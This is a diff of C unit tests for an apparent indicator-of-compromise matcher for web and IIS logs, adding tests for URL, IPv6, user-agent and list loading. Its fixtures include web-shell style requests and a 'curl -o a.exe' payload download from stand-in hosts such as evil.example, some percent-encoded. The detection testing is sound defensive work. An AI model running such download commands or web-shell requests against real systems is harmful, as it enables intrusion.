@@ -72,8 +72,8 @@ static void test_formats(void)
     CHECK(exh_ip_parse(EXH_LIT("198.51.100.8"), &ip) && !exh_iocset_ip(s, &ip));
     CHECK(exh_ip_parse(EXH_LIT("203.0.114.1"), &ip) && !exh_iocset_ip(s, &ip));
     /* user agents: the field starts with it, spaces or '+' */
-    CHECK(exh_iocset_ua(s, EXH_LIT("Evil+Agent/1.0+(test)+more")) != NULL);
-    CHECK(exh_iocset_ua(s, EXH_LIT("Mozilla/5.0 Evil Agent/1.0 (test)")) == NULL);
+    CHECK(exh_iocset_ua(s, EXH_LIT("Evil+Agent/1.0+(test)+more"), false) != NULL);
+    CHECK(exh_iocset_ua(s, EXH_LIT("Mozilla/5.0 Evil Agent/1.0 (test)"), false) == NULL);
     /* domains stand alone; URLs whole, refanged */
     size_t at, len;
     const char *t = "/x.aspx?cmd=ping sub.EVIL-C2.example -n 1";
@@ -94,6 +94,47 @@ static void test_formats(void)
     CHECK(range);
     CHECK(exh_iocset_line_may_match(s, t, strlen(t)));
     CHECK(!exh_iocset_line_may_match(s, "nothing here", 12));
+    exh_iocset_free(s);
+}
+
+static void test_review(void)
+{
+    struct exh_iocset *s = exh_iocset_new(true);
+    struct exh_ioc_load_stats st;
+    /* a URL without a path stands alone; a URL's host is its needle, so a
+     * percent-encoded URL is selected and found once decoded */
+    CHECK(load(s,
+               "http://c2host.example\nhttp://evil.example/payload/x.exe\n"
+               "2001:db8:0:0:1::/80\npython-requests/2.25.1\n",
+               &st));
+    size_t at, len;
+    const char *t = "get http://c2host.example.attacker.net/ and http://c2host.example/";
+    const struct exh_ioc_meta *m = exh_iocset_web(s, t, strlen(t), &at, &len);
+    CHECK(m && at == 44);
+    t = "curl -o a.exe http://evil.example/payload/x.exe";
+    CHECK(exh_iocset_web(s, t, strlen(t), &at, &len) != NULL);
+    t = "cmd=curl+-o+a.exe+http%3A%2F%2Fevil.example%2Fpayload%2Fx.exe";
+    CHECK(exh_iocset_line_may_match(s, t, strlen(t)));
+    /* an IPv6 range whose members write its zero groups as "::" */
+    t = "2021-03-03 10.0.0.1 GET / - 443 - 2001:db8::1:0:0:5 x";
+    CHECK(exh_iocset_line_may_match(s, t, strlen(t)));
+    struct exh_ip ip;
+    CHECK(exh_ip_parse(EXH_LIT("2001:db8::1:0:0:5"), &ip) && exh_iocset_ip(s, &ip));
+    /* a built-in agent that counts on POST only does not hide a listed one */
+    CHECK((m = exh_iocset_ua(s, EXH_LIT("python-requests/2.25.1"), false)) &&
+          !strcmp(m->feed, "test-list"));
+    CHECK((m = exh_iocset_ua(s, EXH_LIT("python-requests/2.25.1"), true)) != NULL);
+    exh_iocset_free(s);
+    /* a list whose first entry looks like JSON, XML or YAML is still a list */
+    s = exh_iocset_new(false);
+    CHECK(load(s, "[a-z]{8}\\.aspx;60\nevil.example\n", &st));
+    CHECK_EQ_INT(st.format, EXH_IOCF_LIST);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_REGEX], 1);
+    CHECK(load(s, "<install path>\\FrontEnd\\x.aspx\n198.51.100.1\n", &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
+    CHECK(load(s, "Note: campaign X\n198.51.100.1\n", &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
+    CHECK(!load(s, "{\"type\":\"bundle\",\n\"198.51.100.1\"\n", &st)); /* broken JSON */
     exh_iocset_free(s);
 }
 
@@ -154,10 +195,12 @@ static void test_loki(void)
     /* escapes and flags that hide or change literals: the regex is still
      * tried (a literal taken from "\x41", "\d{2}" or an (?x) blank would
      * keep it from ever running) */
-    static const char *const rx[][2] = {{"\\\\x\\x41bc\\.exe;80", "C:\\x\\xAbc.exe"},
-                                        {"(?ix)\\\\ev il\\.exe;80", "C:\\a\\EVIL.exe"},
-                                        {"\\\\p\\d{2}xyz\\.dll;80", "C:\\t\\p12xyz.dll"},
-                                        {"\\\\(?-i:Q)\\Qa.b\\E;80", "C:\\Qa.b"}};
+    static const char *const rx[][2] = {
+        {"\\\\x\\x41bc\\.exe;80", "C:\\x\\xAbc.exe"},
+        {"(?ix)\\\\ev il\\.exe;80", "C:\\a\\EVIL.exe"},
+        {"\\\\p\\d{2}xyz\\.dll;80", "C:\\t\\p12xyz.dll"},
+        {"\\\\(?-i:Q)\\Qa.b\\E;80", "C:\\Qa.b"},
+        {"\\\\qq[^]abcdefghij]zz\\.aspx;70", "C:\\inetpub\\qqxzz.aspx"}};
     for (size_t i = 0; i < sizeof(rx) / sizeof(rx[0]); i++) {
         struct exh_iocset *r = exh_iocset_new(false);
         T_CTX(rx[i][0]);
@@ -215,9 +258,9 @@ static void test_csv(void)
                "u4,1,Persistence mechanism,regkey,HKLM\\\\x,,1,1,\n",
                &st));
     CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
-    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 0); /* the name only qualifies the hash */
     CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
-    CHECK_EQ_INT(st.unused, 2); /* to_ids off; regkey */
+    CHECK_EQ_INT(st.unused, 3); /* the name; to_ids off; regkey */
     exh_iocset_free(s);
 }
 
@@ -285,6 +328,7 @@ int main(void)
 {
     T_RUN(test_formats);
     T_RUN(test_refusals);
+    T_RUN(test_review);
     T_RUN(test_loki);
     T_RUN(test_csv);
     T_RUN(test_builtin);
